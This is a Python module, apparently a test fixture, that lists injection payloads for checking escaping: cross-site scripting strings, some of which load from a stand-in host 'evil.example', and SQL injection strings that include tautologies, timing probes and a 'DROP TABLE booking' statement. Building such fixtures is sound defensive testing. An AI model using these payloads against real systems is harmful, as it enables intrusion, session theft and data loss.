"""Texts that become code where someone forgets to escape them. Each calls `alert`, or leaves an `<xss-probe>`."""

XSS = [
    "<script>alert(1)</script>", "<xss-probe>", "\"><script>alert(2)</script>", "'><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>", "\"><img src=x onerror=alert(5)>", "'><img src=x onerror=alert(6)>",
    "<svg onload=alert(7)>", "<svg/onload=alert(8)//", "<svg><script>alert(9)</script></svg>",
    "<svg><animate onbegin=alert(10) attributeName=x dur=1s>", "<body onload=alert(11)>", "<iframe src=javascript:alert(12)>",
    "<iframe srcdoc='<script>alert(13)</script>'>", "<details open ontoggle=alert(14)>", "<video><source onerror=alert(15)></video>",
    "<input autofocus onfocus=alert(16)>", "\" autofocus onfocus=alert(17) x=\"", "' autofocus onfocus=alert(18) x='",
    " autofocus onfocus=alert(19) ", "<select autofocus onfocus=alert(20)>", "<textarea autofocus onfocus=alert(21)>",
    "<marquee onstart=alert(22)>", "<object data=javascript:alert(23)>", "<embed src=javascript:alert(24)>",
    "<math><mi xlink:href=javascript:alert(25)>", "<a href=javascript:alert(26)>x</a>", "javascript:alert(27)",
    "java\tscript:alert(28)", " javascript:alert(29)", "data:text/html,<script>alert(30)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=", "<form action=javascript:alert(32)><button>x</button></form>",
    "<button formaction=javascript:alert(33)>x</button>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(34)'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>", "<div style=background:url(javascript:alert(35))>",
    "</title><script>alert(36)</script>", "</textarea><script>alert(37)</script>", "</style><script>alert(38)</script>",
    "</script><script>alert(39)</script>", "--><script>alert(40)</script>", "]]><script>alert(41)</script>",
    "</noscript><script>alert(42)</script>", "</option></select><script>alert(43)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(44)>'>",
    "<scr<script>ipt>alert(45)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script src=data:,alert(46)></script>",
    "<script/x>alert(47)</script>", "<script\n>alert(48)</script>", "%3Cscript%3Ealert(49)%3C/script%3E",
    "&lt;script&gt;alert(50)&lt;/script&gt;", "&#60;script&#62;alert(51)&#60;/script&#62;", "\\u003cscript\\u003ealert(52)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(53)')()}}", "{{ 7*7 }}{% raw %}<script>alert(54)</script>", "${alert(55)}", "#{alert(56)}",
    "';alert(57)//", "\";alert(58)//", "`;alert(59)//", "\\';alert(60)//", "</script><svg onload=alert(61)>",
    "<div hx-on:load=alert(62) hx-trigger=load hx-get=/>", "<div hx-get=//evil.example/ hx-trigger=load>", "<div data-hx-on-load=alert(63)>",
    "<img/src/onerror=alert(64)>", "<x onclick=alert(65) autofocus tabindex=1 onfocus=alert(66)>x", "<template><script>alert(67)</script></template>",
    "<ſcript>alert(68)</ſcript>", "＜script＞alert(69)＜/script＞", "<!--><script>alert(70)</script>", "<?xml-stylesheet href='javascript:alert(71)'?>",
]  # fmt: skip

SQL = [
    "'", "''", "\"", "`", "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "') OR ('1'='1", "'; DROP TABLE booking; --", "1; SELECT pg_sleep(9)",
    "' UNION SELECT NULL, version() --", "'||(SELECT pg_sleep(9))||'", "' AND (SELECT 1 FROM pg_sleep(9)) --", "%", "_%", "\\", "\\'",
    "' AND 1=CAST((SELECT version()) AS int) --", "x' AND randomblob(999999999) --", "'/**/OR/**/1=1#", "0x27", "%27", "\u02bc OR 1=1", "$1", "?", ":id", "%s", "%(id)s",
]  # fmt: skip
